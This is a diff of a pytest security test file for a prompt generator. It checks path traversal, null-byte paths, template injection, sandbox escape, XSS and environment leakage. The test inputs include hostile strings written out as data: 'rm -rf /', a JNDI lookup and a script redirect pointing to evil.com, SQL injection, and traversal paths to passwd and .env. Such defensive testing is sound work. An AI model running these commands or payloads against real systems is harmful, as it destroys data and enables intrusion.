@@ -8,23 +8,73 @@ and secure handling of user data and file operations.
 import json
 import os
 import tempfile
-from pathlib import Path
 from unittest.mock import Mock, mock_open, patch
 
 import pytest
+from jinja2.sandbox import SecurityError
 
 from src.knowledge_manager import KnowledgeManager
 from src.prompt_config import PromptConfig
-from src.prompt_generator import PromptGenerator
 from src.utils import load_json_file, read_text_file, safe_path_join
 
+try:
+    import orjson
+except ImportError:  # pragma: no cover - orjson is an optional speedup
+    orjson = None
+
+DANGEROUS_TECH_NAMES = [
+    "../../../passwd",
+    "python; rm -rf /",
+    "tech\\..\\sensitive",
+    "tech\x00.exe",
+    "tech<script>alert()</script>",
+]
+
+ENCODED_TRAVERSAL_PATHS = (
+    "%2e%2e%2f%2e%2e%2fpasswd",  # URL encoded ../
+    "..%2fpasswd",
+    "dir%2f..%2f..%2fsecret",
+    "..\\\\..\\\\windows",
+)
+
+NULL_BYTE_PATHS = (
+    "valid_file.txt\x00../../../passwd",
+    "file.json\x00.exe",
+    "safe\x00../dangerous",
+)
+
+
+def _probe_symlinks() -> bool:
+    """Check once whether this platform allows creating symlinks."""
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        try:
+            os.symlink(tmp_dir, os.path.join(tmp_dir, "link"))
+        except (OSError, NotImplementedError):
+            return False
+    return True
+
+
+# Symlinks might not be supported on all systems (e.g. Windows without developer mode)
+SYMLINKS_SUPPORTED = _probe_symlinks()
+
+# 100 levels of {"level": i, "nested": {...}}, serialized once at import
+DEEP_JSON = '{"level":0' + "".join(f',"nested":{{"level":{i}' for i in range(1, 100)) + "}" * 100
+
+
+def _write_json(path, data) -> None:
+    """Write fixture data as JSON with a single bytes write."""
+    if orjson is not None:
+        path.write_bytes(orjson.dumps(data))
+    else:
+        path.write_bytes(json.dumps(data).encode())
+
 
 class TestPathTraversalSecurity:
     """Test protection against path traversal attacks."""
 
-    def test_safe_path_join_basic_protection(self, tmp_path):
+    def test_safe_path_join_basic_protection(self, security_layout):
         """Test basic path traversal protection."""
-        base_dir = str(tmp_path)
+        base_dir = str(security_layout.base_path)
 
         # Test legitimate paths
         valid_paths = [
@@ -39,66 +89,42 @@ class TestPathTraversalSecurity:
             assert result.startswith(os.path.abspath(base_dir))
             assert os.path.normpath(result) == result
 
-    def test_safe_path_join_traversal_attempts(self, tmp_path):
-        """Test protection against various path traversal attempts."""
-        base_dir = str(tmp_path)
-
-        # Test obvious traversal attempts
-        dangerous_paths = [
+    @pytest.mark.parametrize(
+        "dangerous_path",
+        [
             "../../../etc/passwd",
             "..\\..\\windows\\system32\\config",
             "./../outside_dir/secret.txt",
             "valid_dir/../../../sensitive_file",
             "../etc/hosts",
             "..\\..\\.env",
-        ]
+        ],
+    )
+    def test_safe_path_join_traversal_attempts(self, security_layout, dangerous_path):
+        """Test protection against various path traversal attempts."""
+        base_dir = str(security_layout.base_path)
 
-        for dangerous_path in dangerous_paths:
-            with pytest.raises(ValueError, match="Attempted directory traversal"):
-                safe_path_join(base_dir, dangerous_path)
+        with pytest.raises(ValueError, match="Attempted directory traversal"):
+            safe_path_join(base_dir, dangerous_path)
 
-    def test_safe_path_join_encoded_traversal(self, tmp_path):
+    @pytest.mark.parametrize("dangerous_path", ENCODED_TRAVERSAL_PATHS)
+    def test_safe_path_join_encoded_traversal(self, security_layout, dangerous_path):
         """Test protection against encoded path traversal attempts."""
-        base_dir = str(tmp_path)
+        base_dir = str(security_layout.base_path)
 
-        # Test URL-encoded and other encoded traversal attempts
-        encoded_dangerous_paths = [
-            "%2e%2e%2f%2e%2e%2fpasswd",  # URL encoded ../
-            "..%2fpasswd",
-            "dir%2f..%2f..%2fsecret",
-            "..\\\\..\\\\windows",
-        ]
+        # Encoded separators are not decoded, so the path stays literal
+        result = safe_path_join(base_dir, dangerous_path)
+        assert result.startswith(os.path.abspath(base_dir))
 
-        for dangerous_path in encoded_dangerous_paths:
-            # Should either be rejected or safely handled
-            try:
-                result = safe_path_join(base_dir, dangerous_path)
-                # If not rejected, ensure it's still within base directory
-                assert result.startswith(os.path.abspath(base_dir))
-            except ValueError:
-                # Rejection is also acceptable
-                pass
-
-    def test_safe_path_join_null_byte_injection(self, tmp_path):
+    @pytest.mark.parametrize("dangerous_path", NULL_BYTE_PATHS)
+    def test_safe_path_join_null_byte_injection(self, security_layout, dangerous_path):
         """Test protection against null byte injection."""
-        base_dir = str(tmp_path)
-
-        # Test null byte injection attempts
-        null_byte_paths = [
-            "valid_file.txt\x00../../../passwd",
-            "file.json\x00.exe",
-            "safe\x00../dangerous",
-        ]
+        base_dir = str(security_layout.base_path)
 
-        for dangerous_path in null_byte_paths:
-            # Should be rejected or safely handled
-            try:
-                result = safe_path_join(base_dir, dangerous_path)
-                assert "\x00" not in result
-                assert result.startswith(os.path.abspath(base_dir))
-            except ValueError:
-                pass  # Rejection is acceptable
+        with pytest.raises(ValueError, match="null bytes"):
+            safe_path_join(base_dir, dangerous_path)
 
+    @pytest.mark.skipif(not SYMLINKS_SUPPORTED, reason="Symlinks not supported on this system")
     def test_safe_path_join_symlink_protection(self, tmp_path):
         """Test protection against symlink attacks."""
         base_dir = str(tmp_path)
@@ -108,72 +134,44 @@ class TestPathTraversalSecurity:
         outside_dir.mkdir(exist_ok=True)
 
         symlink_path = tmp_path / "malicious_link"
-        try:
-            symlink_path.symlink_to(outside_dir)
+        symlink_path.symlink_to(outside_dir)
 
-            # Attempting to access through symlink should be safe
-            result = safe_path_join(base_dir, "malicious_link/secret.txt")
-            # The function should handle this safely
-            assert result.startswith(os.path.abspath(base_dir))
-        except (OSError, NotImplementedError):
-            # Symlinks might not be supported on all systems
-            pytest.skip("Symlinks not supported on this system")
+        # Attempting to access through symlink should be safe
+        result = safe_path_join(base_dir, "malicious_link/secret.txt")
+        # The function should handle this safely
+        assert result.startswith(os.path.abspath(base_dir))
 
 
 class TestInputValidation:
     """Test input validation and sanitization."""
 
-    def test_prompt_config_injection_prevention(self):
-        """Test that PromptConfig prevents injection attacks."""
-        # Test template injection attempts
-        injection_attempts = [
+    @pytest.mark.parametrize(
+        "injection",
+        [
             "{{ system('rm -rf /') }}",
             "{% import os %}{{ os.system('malicious') }}",
             "${jndi:ldap://evil.com/a}",
             "<script>alert('xss')</script>",
             "'; DROP TABLE users; --",
-        ]
-
-        for injection in injection_attempts:
-            # Should accept the input but not execute it
-            config = PromptConfig(
-                technologies=["python"],
-                task_type=f"test injection {injection}",
-                task_description=f"Description with {injection}",
-                code_requirements=f"Requirements with {injection} and additional text",
-            )
-
-            # Values should be stored as-is but not executed
-            assert injection in config.task_type
-            assert injection in config.task_description
-            assert injection in config.code_requirements
-
-    def test_template_injection_prevention(self, tmp_path):
-        """Test that template rendering prevents code injection."""
-        # Setup test environment
-        prompts_dir = tmp_path / "prompts"
-        prompts_dir.mkdir()
-        base_prompts_dir = prompts_dir / "base_prompts"
-        base_prompts_dir.mkdir()
-
-        config_file = tmp_path / "config.json"
-        config_data = {"python": {"best_practices": [], "tools": []}}
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
-
-        # Create a secure template
-        template_file = base_prompts_dir / "secure_template.txt"
-        template_file.write_text(
-            """
-Role: {{ role }}
-Technologies: {{ technologies }}
-Task: {{ task_description }}
-Requirements: {{ code_requirements }}
-        """.strip()
+        ],
+    )
+    def test_prompt_config_injection_prevention(self, injection):
+        """Test that PromptConfig prevents injection attacks."""
+        # Should accept the input but not execute it
+        config = PromptConfig(
+            technologies=["python"],
+            task_type=f"test injection {injection}",
+            task_description=f"Description with {injection}",
+            code_requirements=f"Requirements with {injection} and additional text",
         )
 
-        generator = PromptGenerator(str(prompts_dir), str(config_file), base_path=str(tmp_path))
+        # Values should be stored as-is but not executed
+        assert injection in config.task_type
+        assert injection in config.task_description
+        assert injection in config.code_requirements
 
+    def test_template_injection_prevention(self, prompt_generator):
+        """Test that template rendering prevents code injection."""
         # Test with malicious input
         config = PromptConfig(
             technologies=["python"],
@@ -184,45 +182,45 @@ Requirements: {{ code_requirements }}
         )
 
         # Generate prompt - should not execute injected code
-        prompt = generator.generate_prompt(config)
+        prompt = prompt_generator.generate_prompt(config)
 
         # The malicious template code should be rendered as text, not executed
-        assert "{{ config.SECRET_KEY" in prompt  # Should be literal text
-        assert "{% for file in range" in prompt  # Should be literal text
-        assert prompt.count("1000") == 0  # Loop should not execute
+        assert "Task: {{ config.SECRET_KEY if config else 'no secret' }}" in prompt
+        assert "Requirements: {% for file in range(1000) %}{{ file }}{% endfor %}" in prompt
 
-    def test_filename_sanitization(self, tmp_path):
+    def test_sandbox_blocks_template_introspection(self, prompt_generator):
+        """Test that template code cannot reach Python internals."""
+        config = PromptConfig(
+            technologies=["python"],
+            task_type="sandbox escape",
+            task_description="template walks the class hierarchy",
+            code_requirements="rendering must be stopped by the sandbox",
+            template_name="base_prompts/sandbox_escape.txt",
+        )
+
+        with pytest.raises(SecurityError):
+            prompt_generator.generate_prompt(config)
+
+    @pytest.mark.parametrize("tech_name", DANGEROUS_TECH_NAMES)
+    def test_filename_sanitization(self, tmp_path, tech_name):
         """Test that filenames are properly sanitized."""
         config_file = tmp_path / "config.json"
 
-        # Test with dangerous technology names
-        dangerous_tech_names = [
-            "../../../passwd",
-            "python; rm -rf /",
-            "tech\\..\\sensitive",
-            "tech\x00.exe",
-            "tech<script>alert()</script>",
-        ]
-
         config_data = {}
-        for tech_name in dangerous_tech_names:
-            config_data[tech_name] = {"best_practices": [], "tools": []}
+        for name in DANGEROUS_TECH_NAMES:
+            config_data[name] = {"best_practices": [], "tools": []}
 
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
+        _write_json(config_file, config_data)
 
         km = KnowledgeManager(str(config_file), base_path=str(tmp_path))
 
         # Should handle dangerous technology names safely
-        for tech_name in dangerous_tech_names:
-            practices = km.get_best_practices(tech_name)
-            assert isinstance(practices, list)
-            # Should not cause any security issues
+        practices = km.get_best_practices(tech_name)
+        assert isinstance(practices, list)
 
-    def test_json_content_validation(self, tmp_path):
+    def test_json_content_validation(self, kb):
         """Test validation of JSON content from files."""
-        kb_dir = tmp_path / "knowledge_base" / "tools"
-        kb_dir.mkdir(parents=True)
+        kb_dir = kb / "tools"
 
         # Test with malicious JSON content
         malicious_json_file = kb_dir / "malicious_tool.json"
@@ -234,8 +232,7 @@ Requirements: {{ code_requirements }}
             "nested": {"deeply": {"nested": {"structure": "to cause parsing issues"}}},
         }
 
-        with open(malicious_json_file, "w") as f:
-            json.dump(malicious_content, f)
+        _write_json(malicious_json_file, malicious_content)
 
         # Load and verify content is handled safely
         result = load_json_file(str(malicious_json_file))
@@ -252,8 +249,7 @@ class TestFileSystemSecurity:
         """Test that KnowledgeManager stays within allowed directories."""
         config_file = tmp_path / "config.json"
         config_data = {"python": {"best_practices": ["Test"], "tools": ["Test"]}}
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
+        _write_json(config_file, config_data)
 
         km = KnowledgeManager(str(config_file), base_path=str(tmp_path))
 
@@ -266,18 +262,8 @@ class TestFileSystemSecurity:
             assert result is None
             mock_safe_join.assert_called()
 
-    def test_template_file_access_security(self, tmp_path):
+    def test_template_file_access_security(self, prompt_generator):
         """Test that template loading is secure."""
-        prompts_dir = tmp_path / "prompts"
-        prompts_dir.mkdir()
-
-        config_file = tmp_path / "config.json"
-        config_data = {"python": {"best_practices": [], "tools": []}}
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
-
-        generator = PromptGenerator(str(prompts_dir), str(config_file), base_path=str(tmp_path))
-
         # Test with template path traversal attempt
         config = PromptConfig(
             technologies=["python"],
@@ -287,128 +273,59 @@ class TestFileSystemSecurity:
         )
 
         # Should handle malicious template path safely
-        prompt = generator.generate_prompt(config)
+        prompt = prompt_generator.generate_prompt(config)
         assert len(prompt) > 0  # Should generate fallback content
         assert "root:" not in prompt  # Should not contain passwd file content
 
-    def test_file_permission_handling(self, tmp_path):
+    def test_file_permission_handling(self):
         """Test handling of files with restricted permissions."""
-        # Create a file with restricted permissions
-        restricted_file = tmp_path / "restricted.txt"
-        restricted_file.write_text("restricted content")
-
-        try:
-            # Remove read permissions
-            restricted_file.chmod(0o000)
-
+        # Simulate permission denied at open() instead of chmod-ing a real file
+        denied = patch("builtins.open", side_effect=PermissionError(13, "Permission denied"))
+        with denied, patch("src.utils.logger") as mock_logger:
             # Should handle permission denied gracefully
-            with patch("src.utils.logger") as mock_logger:
-                result = read_text_file(str(restricted_file))
-                assert result is None
-                mock_logger.error.assert_called()
-        finally:
-            # Restore permissions for cleanup
-            try:
-                restricted_file.chmod(0o644)
-            except (PermissionError, OSError):
-                pass
+            result = read_text_file("/restricted/restricted.txt")
+            assert result is None
+            mock_logger.error.assert_called()
 
 
 class TestDataSanitization:
     """Test data sanitization and escaping."""
 
-    def test_output_sanitization(self, tmp_path):
-        """Test that generated prompts are properly sanitized."""
-        prompts_dir = tmp_path / "prompts"
-        prompts_dir.mkdir()
-        base_prompts_dir = prompts_dir / "base_prompts"
-        base_prompts_dir.mkdir()
-
-        config_file = tmp_path / "config.json"
-        config_data = {"python": {"best_practices": [], "tools": []}}
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
-
-        # Create template that includes user input
-        template_file = base_prompts_dir / "user_input.txt"
-        template_file.write_text(
-            """
-Task Type: {{ task_type }}
-Description: {{ task_description }}
-Requirements: {{ code_requirements }}
-        """.strip()
-        )
-
-        generator = PromptGenerator(str(prompts_dir), str(config_file), base_path=str(tmp_path))
-
-        # Test with potentially dangerous user input
-        dangerous_inputs = [
+    @pytest.mark.parametrize(
+        "dangerous_input",
+        [
             "<script>alert('xss')</script>",
             "{{ dangerous_variable }}",
             "{% for x in range(1000) %}{{ x }}{% endfor %}",
             "${env:SHELL}",
             '"; rm -rf /; echo "',
-        ]
-
-        for dangerous_input in dangerous_inputs:
-            config = PromptConfig(
-                technologies=["python"],
-                task_type=f"test {dangerous_input}",
-                task_description=f"description {dangerous_input}",
-                code_requirements=f"requirements {dangerous_input} with more text",
-                template_name="base_prompts/user_input.txt",
-            )
+        ],
+    )
+    def test_output_sanitization(self, prompt_generator, dangerous_input):
+        """Test that generated prompts are properly sanitized."""
+        config = PromptConfig(
+            technologies=["python"],
+            task_type=f"test {dangerous_input}",
+            task_description=f"description {dangerous_input}",
+            code_requirements=f"requirements {dangerous_input} with more text",
+            template_name="base_prompts/user_input.txt",
+        )
 
-            prompt = generator.generate_prompt(config)
+        prompt = prompt_generator.generate_prompt(config)
 
-            # Dangerous input should be present as literal text, not executed
-            assert dangerous_input in prompt
-            # Should not contain signs of code execution
-            assert prompt.count("0") + prompt.count("1") < 10  # No loop execution
+        # Dangerous input should be rendered verbatim, not executed
+        assert prompt == (
+            f"Task Type: test {dangerous_input}\n"
+            f"Description: description {dangerous_input}\n"
+            f"Requirements: requirements {dangerous_input} with more text"
+        )
 
-    def test_knowledge_content_sanitization(self, tmp_path):
+    def test_knowledge_content_sanitization(self, tmp_path, kb):
         """Test that knowledge base content is safely handled."""
+        # kb holds malicious best practice and tool files copied from the template
         config_file = tmp_path / "config.json"
         config_data = {"test": {"best_practices": ["Malicious"], "tools": ["Malicious"]}}
-        with open(config_file, "w") as f:
-            json.dump(config_data, f)
-
-        kb_dir = tmp_path / "knowledge_base"
-        bp_dir = kb_dir / "best_practices"
-        tools_dir = kb_dir / "tools"
-        bp_dir.mkdir(parents=True)
-        tools_dir.mkdir(parents=True)
-
-        # Create malicious knowledge content
-        malicious_practice = bp_dir / "malicious.md"
-        malicious_practice.write_text(
-            """
-# Malicious Practice
-
-## Code Examples
-```python
-import os
-os.system('rm -rf /')
-```
-
-## Template Code
-{{ malicious_variable }}
-{% for i in range(1000) %}Spam{% endfor %}
-
-## Script Tags
-<script>alert('xss')</script>
-        """.strip()
-        )
-
-        malicious_tool = tools_dir / "malicious.json"
-        malicious_content = {
-            "name": "Malicious Tool",
-            "description": "Tool with {{ template_code }} and <script>alert()</script>",
-            "command": "rm -rf /",
-            "script": "<script>location.href='http://evil.com'</script>",
-        }
-        with open(malicious_tool, "w") as f:
-            json.dump(malicious_content, f)
+        _write_json(config_file, config_data)
 
         km = KnowledgeManager(str(config_file), base_path=str(tmp_path))
 
@@ -436,8 +353,7 @@ class TestConfigurationSecurity:
             "normal": {"best_practices": ["../../../passwd"], "tools": ["../../sensitive"]},
         }
 
-        with open(config_file, "w") as f:
-            json.dump(malicious_config, f)
+        _write_json(config_file, malicious_config)
 
         # Should handle malicious config safely
         km = KnowledgeManager(str(config_file), base_path=str(tmp_path))
@@ -452,57 +368,27 @@ class TestConfigurationSecurity:
         practices = km.get_best_practices("python; rm -rf /")
         assert isinstance(practices, list)
 
-    def test_environment_variable_security(self):
+    def test_environment_variable_security(self, prompt_generator, monkeypatch):
         """Test that environment variables are not leaked."""
         # This test ensures that template rendering doesn't expose environment variables
-        import os
+        # Set a sensitive environment variable; monkeypatch restores it afterwards
+        monkeypatch.setenv("SECRET_TEST_VAR", "secret_value_12345")
 
-        # Set a sensitive environment variable
-        os.environ["SECRET_TEST_VAR"] = "secret_value_12345"
+        # Template that might try to access environment
+        config = PromptConfig(
+            technologies=["python"],
+            task_type="environment test",
+            task_description="test environment access",
+            code_requirements="should not expose environment variables",
+            template_name="base_prompts/env_test.txt",
+        )
 
-        try:
-            with tempfile.TemporaryDirectory() as tmp_dir:
-                prompts_dir = Path(tmp_dir) / "prompts"
-                prompts_dir.mkdir()
-                base_prompts_dir = prompts_dir / "base_prompts"
-                base_prompts_dir.mkdir()
-
-                config_file = Path(tmp_dir) / "config.json"
-                config_data = {"python": {"best_practices": [], "tools": []}}
-                with open(config_file, "w") as f:
-                    json.dump(config_data, f)
-
-                # Create template that might try to access environment
-                template_file = base_prompts_dir / "env_test.txt"
-                template_file.write_text(
-                    """
-Task: {{ task_description }}
-Environment: {{ env }}
-Secret: {{ SECRET_TEST_VAR }}
-                """.strip()
-                )
-
-                generator = PromptGenerator(str(prompts_dir), str(config_file), base_path=tmp_dir)
-
-                config = PromptConfig(
-                    technologies=["python"],
-                    task_type="environment test",
-                    task_description="test environment access",
-                    code_requirements="should not expose environment variables",
-                    template_name="base_prompts/env_test.txt",
-                )
-
-                prompt = generator.generate_prompt(config)
-
-                # Should not contain the secret environment variable
-                assert "secret_value_12345" not in prompt
-                # Should not expose environment dictionary
-                assert "PATH" not in prompt  # Common env var that shouldn't be exposed
-
-        finally:
-            # Clean up environment variable
-            if "SECRET_TEST_VAR" in os.environ:
-                del os.environ["SECRET_TEST_VAR"]
+        prompt = prompt_generator.generate_prompt(config)
+
+        # Should not contain the secret environment variable
+        assert "secret_value_12345" not in prompt
+        # Should not expose environment dictionary
+        assert "PATH" not in prompt  # Common env var that shouldn't be exposed
 
 
 class TestResourceLimits:
@@ -510,33 +396,26 @@ class TestResourceLimits:
 
     def test_large_file_handling(self, tmp_path):
         """Test handling of very large files."""
-        # Create a very large file
+        # Create a very large file: a small written head extended sparsely to 10MB
         large_file = tmp_path / "large_file.txt"
-        large_content = "A" * (10 * 1024 * 1024)  # 10MB file
-        large_file.write_text(large_content)
+        large_size = 10 * 1024 * 1024
+        large_file.write_bytes(b"A" * 4096)
+        os.truncate(large_file, large_size)
 
         # Should handle large files without issues (but may limit content)
         result = read_text_file(str(large_file))
 
         # Either successfully read or handled gracefully
         if result is not None:
-            assert len(result) <= len(large_content)
+            assert len(result) <= large_size
+            assert result.startswith("A" * 4096)
         # If result is None, it was handled gracefully
 
     def test_deep_json_nesting(self, tmp_path):
         """Test handling of deeply nested JSON structures."""
-        # Create deeply nested JSON
+        # Write the pre-serialized 100-level document directly
         nested_json = tmp_path / "deep.json"
-
-        # Create 100 levels of nesting
-        content = {"level": 0}
-        current = content
-        for i in range(1, 100):
-            current["nested"] = {"level": i}
-            current = current["nested"]
-
-        with open(nested_json, "w") as f:
-            json.dump(content, f)
+        nested_json.write_text(DEEP_JSON)
 
         # Should handle deep nesting without stack overflow
         result = load_json_file(str(nested_json))